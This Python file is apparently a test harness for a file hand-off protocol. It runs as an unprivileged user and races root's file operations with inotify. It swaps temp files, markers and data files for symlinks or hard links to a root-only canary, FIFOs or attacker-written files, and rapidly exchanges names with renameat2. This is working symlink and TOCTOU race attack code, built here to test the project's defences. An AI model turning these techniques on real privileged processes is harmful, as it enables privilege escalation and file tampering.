# Copyright: lockstep.handoff contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""The attacker: a member of the hand-off directory's group racing root's tasks.

Run as the attacking user (never as root). It watches directory trees with
inotify and, the moment a protocol name appears (a temp ``.NAME.<12hex>.tmp``,
a marker temp ``.NAME.done.<12hex>.tmp``, a marker ``NAME.done``, a data
file), renames that entry away and puts in its place a symlink to a root-only
canary, a FIFO, a hard link to the canary, or a file of its own. Before it
watches it can pre-plant names as symlinks or FIFOs. On SIGTERM it prints a
JSON summary: how many swaps it tried and how many landed.

Standard library only (ctypes on libc's inotify), so it runs as any user.
"""

import argparse
import ctypes
import ctypes.util
import errno
import json
import os
import re
import select
import signal
import struct
import sys
import threading
import time

IN_CLOSE_WRITE = 0x008
IN_CLOSE_NOWRITE = 0x010
IN_MOVED_TO = 0x080
IN_CREATE = 0x100
IN_Q_OVERFLOW = 0x4000
IN_ISDIR = 0x40000000
IN_NONBLOCK = 0o4000
IN_CLOEXEC = 0o2000000
EVENTS = {'create': IN_CREATE, 'moved_to': IN_MOVED_TO, 'close_write': IN_CLOSE_WRITE,
          'close_nowrite': IN_CLOSE_NOWRITE}
HEADER = struct.Struct('iIII')
MODES = ('symlink', 'fifo', 'hardlink', 'substitute', 'flip')
# What ``--mode cycle`` rotates through: the symlink to the canary is the attack that matters most.
CYCLE = ('symlink', 'fifo', 'symlink', 'substitute', 'hardlink')
STOLEN_PREFIX = 'zz-stolen-'
ATTACKER_BYTES = b'attacker bytes, not the producer\'s\n'
# ``flip``: how long to keep exchanging a name with a FIFO, as fast as the kernel allows (a reader's lstat and its
# open then see different files).
FLIP_SECONDS = 0.5
AT_FDCWD = -100
RENAME_EXCHANGE = 2

_MARKER_TEMP = re.compile(r'^\..+\.done\.[0-9a-f]{12}\.tmp$', re.DOTALL)
_TEMP = re.compile(r'^\..+\.[0-9a-f]{12}\.tmp$', re.DOTALL)


def kind_of(name):
    """The protocol role a directory entry's name gives it, or None for names the racer leaves alone."""
    if name.startswith(STOLEN_PREFIX) or name.endswith('.lock'):
        return None
    if _MARKER_TEMP.match(name):
        return 'markertemp'
    if _TEMP.match(name):
        return 'temp'
    if name.endswith('.done'):
        return 'marker'
    if name.startswith('.'):
        return None
    return 'data'


def data_name_of(name, kind):
    """The data file a marker (``NAME.done``) or a marker temp (``.NAME.done.<12hex>.tmp``) belongs to."""
    if kind == 'marker':
        return name[:-len('.done')]
    return name[1:-len('.done.123456789abc.tmp')]


class Inotify:
    """A non-blocking inotify descriptor with watches over whole trees."""

    def __init__(self, mask):
        self.libc = ctypes.CDLL(ctypes.util.find_library('c') or 'libc.so.6', use_errno=True)
        self.fd = self.libc.inotify_init1(IN_NONBLOCK | IN_CLOEXEC)
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), 'inotify_init1')
        self.mask = mask | IN_CREATE
        self.paths = {}

    def watch(self, directory):
        wd = self.libc.inotify_add_watch(self.fd, os.fsencode(directory), self.mask)
        if wd < 0:
            raise OSError(ctypes.get_errno(), 'inotify_add_watch %s' % directory)
        self.paths[wd] = directory

    def events(self):
        """Yield ``(directory, name, mask)`` for every queued event."""
        try:
            data = os.read(self.fd, 1 << 16)
        except BlockingIOError:
            return
        offset = 0
        while offset < len(data):
            wd, mask, dummy, length = HEADER.unpack_from(data, offset)
            offset += HEADER.size
            name = data[offset:offset + length].rstrip(b'\0').decode('utf-8', 'surrogateescape')
            offset += length
            if mask & IN_Q_OVERFLOW:
                yield None, None, mask
            elif wd in self.paths and name:
                yield self.paths[wd], name, mask


class Racer:
    """Swap protocol names the moment they appear; count what landed."""

    def __init__(self, args):
        self.roots = [os.path.abspath(root) for root in args.root]
        self.canary = args.canary
        self.canary_dir = args.canary_dir
        self.canary_depth = args.canary_depth
        self.mode = args.mode
        self.triggers = {}
        for spec in args.on:
            kind, dummy, events = spec.partition(':')
            self.triggers[kind] = sum(EVENTS[event] for event in events.split(','))
        self.uid = os.getuid()
        self.flippers = []
        self.flipping = set()
        self.lock = threading.Lock()
        self.turn = 0
        self.serial = 0
        self.counts = dict(events=0, swaps_attempted=0, swaps_landed=0, overflows=0, preplanted=0,
                           landed_by_mode={}, landed_by_kind={}, errors={})

    def canary_for(self, path):
        """The canary a swap at ``path`` points to: with ``--canary-dir``, the trial's own, named after the first
        ``--canary-depth`` directories below the root (joined by ``-``)."""
        if self.canary_dir:
            for root in self.roots:
                relative = os.path.relpath(path, root)
                if not relative.startswith('..'):
                    return os.path.join(self.canary_dir, '-'.join(relative.split(os.sep)[:self.canary_depth]))
        return self.canary

    def next_mode(self):
        if self.mode != 'cycle':
            return self.mode
        self.turn += 1
        return CYCLE[self.turn % len(CYCLE)]

    def plant(self, path, mode):
        """Put the attack ``mode`` at ``path`` (which must be free); raise OSError when the kernel refuses."""
        if mode == 'symlink':
            os.symlink(self.canary_for(path), path)
        elif mode == 'fifo':
            os.mkfifo(path, 0o666)
        elif mode == 'hardlink':
            os.link(self.canary_for(path), path)
        else:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666)
            try:
                os.write(fd, ATTACKER_BYTES)
            finally:
                os.close(fd)

    def swap(self, directory, name, kind):
        path = os.path.join(directory, name)
        try:
            if os.lstat(path).st_uid == self.uid:
                return  # one of ours
        except OSError:
            return
        mode = self.next_mode()
        self.serial += 1
        self.counts['swaps_attempted'] += 1
        if mode == 'flip':
            if path not in self.flipping:
                self.flipping.add(path)
                self.start_flipping(directory, name, kind)
            return
        try:
            os.rename(path, os.path.join(directory, '%s%d-%s' % (STOLEN_PREFIX, self.serial, name)))
            self.plant(path, mode)
        except OSError as exc:
            self.count_error(exc)
            return
        with self.lock:
            self.counts['swaps_landed'] += 1
            for key, value in (('landed_by_mode', mode), ('landed_by_kind', kind)):
                self.counts[key][value] = self.counts[key].get(value, 0) + 1

    def start_flipping(self, directory, name, kind):
        """Keep exchanging ``name`` with a FIFO of ours (renameat2 RENAME_EXCHANGE) for a while, in a thread."""
        path = os.path.join(directory, name)
        fifo = os.path.join(directory, '%s%d-fifo-%s' % (STOLEN_PREFIX, self.serial, name))
        try:
            os.mkfifo(fifo, 0o666)
        except OSError as exc:
            self.count_error(exc)
            return
        libc = ctypes.CDLL(ctypes.util.find_library('c') or 'libc.so.6', use_errno=True)
        thread = threading.Thread(target=self.flip, args=(libc, os.fsencode(path), os.fsencode(fifo), kind))
        thread.daemon = True
        thread.start()
        self.flippers.append(thread)

    def flip(self, libc, path, fifo, kind):
        """Exchange ``path`` and ``fifo`` until the deadline or until one vanishes; leave the original in place."""
        flips = 0
        deadline = time.monotonic() + FLIP_SECONDS
        while time.monotonic() < deadline:
            if libc.renameat2(AT_FDCWD, path, AT_FDCWD, fifo, RENAME_EXCHANGE) != 0:
                break
            flips += 1
        if flips % 2:
            libc.renameat2(AT_FDCWD, path, AT_FDCWD, fifo, RENAME_EXCHANGE)
        with self.lock:
            self.counts['flips'] = self.counts.get('flips', 0) + flips
            if flips:
                self.counts['swaps_landed'] += 1
                for key, value in (('landed_by_mode', 'flip'), ('landed_by_kind', kind)):
                    self.counts[key][value] = self.counts[key].get(value, 0) + 1

    def count_error(self, exc):
        name = errno.errorcode.get(exc.errno, str(exc.errno))
        self.counts['errors'][name] = self.counts['errors'].get(name, 0) + 1

    def preplant(self, specs):
        for spec in specs:
            path, dummy, mode = spec.rpartition('=')
            try:
                self.plant(path, mode)
                self.counts['preplanted'] += 1
            except OSError as exc:
                self.count_error(exc)

    def handle(self, inotify, directory, name, mask):
        if mask & IN_ISDIR:
            if mask & (IN_CREATE | IN_MOVED_TO):
                self.watch_tree(inotify, os.path.join(directory, name))
            return
        kind = kind_of(name)
        if kind is not None and mask & self.triggers.get(kind, 0):
            self.swap(directory, name, kind)
        if kind in ('marker', 'markertemp') and mask & self.triggers.get('markerdata', 0):
            self.swap(directory, data_name_of(name, kind), 'markerdata')

    def watch_tree(self, inotify, top):
        """Watch ``top`` and every directory below it; race what was created before the watch too."""
        for directory, subdirectories, names in os.walk(top):
            try:
                inotify.watch(directory)
            except OSError as exc:
                self.count_error(exc)
                continue
            if directory != top or top in self.roots:
                continue
            for name in names:
                self.handle(inotify, directory, name, IN_CREATE)

    def run(self, stop):
        inotify = Inotify(sum(self.triggers.values()) | IN_MOVED_TO)
        for root in self.roots:
            self.watch_tree(inotify, root)
        print('READY', flush=True)
        poller = select.poll()
        poller.register(inotify.fd, select.POLLIN)
        while not stop:
            if not poller.poll(100):
                continue
            for directory, name, mask in inotify.events():
                self.counts['events'] += 1
                if directory is None:
                    self.counts['overflows'] += 1
                else:
                    self.handle(inotify, directory, name, mask)
        for thread in self.flippers:
            thread.join()


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument('--root', action='append', required=True, help='a directory tree to race in')
    parser.add_argument('--canary', help='what symlinks and hard links point to')
    parser.add_argument('--canary-dir', help='per-trial canaries: CANARY_DIR/<directories below the root>')
    parser.add_argument('--canary-depth', type=int, default=1, help='directories below the root that name a canary')
    parser.add_argument('--mode', choices=MODES + ('cycle',), default='cycle')
    parser.add_argument('--on', action='append', default=[], metavar='KIND:EVENT[,EVENT]',
                        help='swap names of KIND (temp, markertemp, marker, data) on these inotify events '
                             '(create, moved_to, close_write, close_nowrite); KIND markerdata swaps the data '
                             'file NAME when its marker NAME.done or a marker temp sees the event')
    parser.add_argument('--preplant', action='append', default=[], metavar='PATH=MODE',
                        help='before watching, create PATH as MODE (symlink, fifo, hardlink, substitute)')
    args = parser.parse_args(argv)
    if os.getuid() == 0:
        parser.error('run the racer as the attacking user, not as root')
    if not (args.canary or args.canary_dir):
        parser.error('give --canary or --canary-dir')
    # What the attacker plants is open to the victim (a FIFO it can open, a file it can write into).
    os.umask(0)
    racer = Racer(args)
    racer.preplant(args.preplant)
    stop = []
    signal.signal(signal.SIGTERM, lambda signum, frame: stop.append(signum))
    signal.signal(signal.SIGINT, lambda signum, frame: stop.append(signum))
    racer.run(stop)
    json.dump(racer.counts, sys.stdout, sort_keys=True)
    sys.stdout.write('\n')
    return 0


if __name__ == '__main__':
    sys.exit(main())
